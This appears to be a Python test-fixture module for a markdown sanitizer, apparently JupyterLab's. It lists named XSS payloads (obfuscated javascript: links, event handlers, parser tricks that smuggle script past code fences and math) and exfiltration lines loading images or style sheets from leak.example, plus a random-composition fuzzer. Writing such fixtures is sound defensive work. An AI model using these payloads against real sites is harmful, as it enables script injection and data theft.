"""Hostile markdown: whole attacks with their names, and fragments that random compositions are made of."""

from __future__ import annotations

import random

ATTACKS = {
    "a script element": "<script>window.__pwned=1</script>",
    "an event handler": "<img src=x onerror=window.__pwned=1>",
    "an svg with a handler": "<svg onload=window.__pwned=1>",
    "a frame": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "a style sheet": "<style>@import url(https://leak.example/a.css)</style>",
    "JupyterLab's command linker": '<button data-commandlinker-command="terminal:create-new">x</button>',
    "a javascript link": "[a](javascript:window.__pwned=1)",
    "a javascript link by entity": "[a](java&#115;cript:window.__pwned=1)",
    "a javascript link by a tab's entity": "[a](java&#9;script:window.__pwned=1)",
    "a javascript link by a control character": "[a](\x01javascript:window.__pwned=1)",
    "a javascript link in mixed case": "[a](<JaVaScRiPt:window.__pwned=1>)",
    "a javascript link by backslashes": "[a](\\javascript\\:window.__pwned=1)",
    "a javascript autolink": "<javascript:window.__pwned=1>",
    "a javascript link by reference": "[a][r]\n\n[r]: javascript:window.__pwned=1",
    "a reference in a block quote": "[a][r]\n\n> [r]:\n> javascript:window.__pwned=1",
    "a vbscript link": "[a](vbscript:x)",
    "a data link": "[a](data:text/html,<script>window.__pwned=1</script>)",
    "a link to the user's own server": "[a](/files/evil.html)",
    "a link with credentials": "[a](https://google.com@leak.example/)",
    "an autolink that reads as a tag": "<https://x/onclick=window.__pwned=1>",
    "an image that tells a secret": "![a](https://leak.example/?secret)",
    "an image by reference": "![a][r]\n\n[r]: https://leak.example/?secret",
    "an image in a link": "[![a](https://leak.example/?secret)](https://example.org)",
    "an image from a bang and a link": "!![a](https://leak.example/x) \\![a](https://leak.example/y)",
    "an image from a bang and an autolink": "!<https://leak.example/x>",
    "an image behind an unused definition": "[r]: javascript:x![a](https://leak.example/x)\n",
    "an attribute out of math in an image": '![ $" onerror="window.__pwned=1" $ ](x)',
    "an attribute out of math in a link": '[a]($"onmouseover="window.__pwned=1"$)',
    "an attribute out of math in a title": '[a](https://example.org "$" onclick="window.__pwned=1" $")',
    "an attribute out of a language": '```x"onmouseover=window.__pwned=1\ncode\n```',
    "an attribute out of math in a language": '```$"onmouseover="window.__pwned=1"$\ncode\n```',
    "a mark of JupyterLab's math pass": "@@0@@ and $a$",
    "a mark that has no number, by escapes": "x @\\@99@\\@ y",
    "a definition that eats a fence": "[foo]:\n```\n<script>window.__pwned=1</script>\n```",
    "a definition whose title eats a fence": '[foo]: x "\n\n```\n"\n<script>window.__pwned=1</script>\n```',
    "a code span that marked does not see": "$ \\\\` $ <img src=x onerror=window.__pwned=1>`",
    "a code span that a table splits": "a | b\n-|-\n`x | <img src=x onerror=window.__pwned=1>` | y",
    "a code span in a link's text": ("[a `b](javascript:window.__pwned=1) <img src=x onerror=window.__pwned=1>`"),
    "an unclosed code span": "`a\n\n<img src=x onerror=window.__pwned=1>`",
    "a display in code that eats a fence": "Use `$$`.\n\n```html\n$$\n<script>window.__pwned=1</script>\n```",
    "a display that eats a fence": "$$\n\n```html\n$$\n<script>window.__pwned=1</script>\n```",
    "a display closed at a line's start": ("a $$\nb\n$$ c\n\n```html\n$$\n<script>window.__pwned=1</script>\n```"),
    "a display closed by an escaped dollar": ("\\[a\\\\]\n\n```html\n$$\n<script>window.__pwned=1</script>\n```"),
    "two formulas that make a display": ("\\(a\\)\\(b\\)\n\n```html\n$$\n<script>window.__pwned=1</script>\n```"),
    "an environment that eats a fence": ("\\begin{a}\n\n```html\n\\end{a}\n<script>window.__pwned=1</script>\n```"),
    "an environment in a display": ("$$ x\n\\begin{a} $$\n\n```html\n\\end{a}\n<script>window.__pwned=1</script>\n```"),
    "math across a quoted fence": "> $a\n> ```html\n> $ <script>window.__pwned=1</script>\n> ```",
    "math that is none elsewhere": "$a<img src=x onerror=window.__pwned=1>$",
    "a formula with a link": "$\\href{javascript:window.__pwned=1}{a}$ $[a](javascript:window.__pwned=1)$",
    "a formula with a fence": "> - $$\n> - ~~~\n> - $$\n\n```\n~~~\n<script>window.__pwned=1</script>\n```",
    "a fence in two markers": "- - ```html\n<script>window.__pwned=1</script>\n```\n<script>1</script>",
    "a fence with a backtick in its info": "``` a`b\n<script>window.__pwned=1</script>\n```",
    "a longer closing fence": "```\n`````\n<script>window.__pwned=1</script>",
    "tildes against backticks": "~~~\n```\n~~~\n<script>window.__pwned=1</script>\n```",
    "an unclosed fence": "```html\n<script>window.__pwned=1</script>",
    "a fence behind U+2028": "```\na\u2028```\n<script>window.__pwned=1</script>\n```",
    "a fence behind a carriage return": "a\r```\r<script>window.__pwned=1</script>\r```",
    "a fence in a false list": "text\n2. ```html\n   <script>window.__pwned=1</script>\n   ```",
    "a fence under lazy indentation": "text\n    ```html\n    <script>window.__pwned=1</script>\n    ```",
    "a comment": "<!-- <script>window.__pwned=1</script>",
    "a closing tag": "</div></div><script>window.__pwned=1</script>",
    "a tag cut by a null": "<scr\0ipt>window.__pwned=1</scr\0ipt>",
    "a tag behind a backslash": "\\<img src=x onerror=window.__pwned=1>",
    "a mermaid diagram with an image": (
        '```mermaid\nflowchart TD\n  A@{ img: "https://leak.example/x.png", label: "x", w: 60, h: 60 }\n```'
    ),
    "a mermaid diagram with a style sheet": (
        '~~~ Mermaid\n%%{init: {"themeCSS": "* {background: url(https://leak.example/b)}"}}%%\n'
        'flowchart TD\n A["<img src=https://leak.example/c onerror=window.__pwned=1>"] --> B\n~~~'
    ),
}

FRAGMENTS = [
    *ATTACKS.values(),
    "[foo]: javascript:x", "[foo]:", "[foo]", "[foo][]", "[a][foo]", "![foo]", "<!--", "-->", "<?",
    "<![CDATA[", "]]>",
    "</p>", "<div>", "<pre>", "</pre>", "<textarea>", "&lt;script&gt;", "&#60;script>", "`", "``", "```",
    "````",
    "```html", "~~~", "~~~~", "$", "$$", "\\$", "\\(", "\\)", "\\[", "\\]", "\\\\(", "\\\\)", "\\\\[",
    "\\\\]",
    "\\begin{a}", "\\end{a}", "\\begin{", "{", "}", "@@0@@", "@@", "@", "\\@", "0@", "&#64;", "[", "](",
    "]", "(", ")",
    "!", '"', "'", '" onerror="x', "|", "|---|---|", "| a | b |", "\\", "\\`", "\\\\`", "*", "**", "_",
    "# ", "===",
    "---", "- ", "* ", "1. ", "2) ", "> ", ">>", "  ", "    ", "   ", "\t", "a", "x < y", "<b", "<br>",
    "</code>",
    "<code>", "</span>", "www.x.com", "https://e.com/a", "a@b.co", ": ", "[^1]: x", "- [x] ", "\u2028",
    "\x0b", "\x85",
    "\r", "\0", "\xa0", "\ufeff", "\n", "\n\n", "\n```\n", "\n~~~\n", "\n   ```\n", "\n    ", "\n  - ",
    "\n> ",
    "\n> ```\n> ", '[a]("', "[a](<", ">)", "é", "😀", "&amp;", "&copy;", "`$$`", "`a|b`",
    "\n```html\n<script>window.__pwned=1</script>\n```\n",
    "\n- x\n\n  ```html\n  <script>window.__pwned=1</script>\n  $a\n  ```\n",
]  # fmt: skip


def compositions(seed: int, count: int) -> list[str]:
    """`count` random compositions of the fragments, the same for the same seed."""
    chance = random.Random(seed)
    return [
        "".join(
            chance.choice(FRAGMENTS) + chance.choice(["", "", "", " ", "\n"])
            for _ in range(chance.randint(1, chance.choice([4, 10, 25])))
        )
        for _ in range(count)
    ]
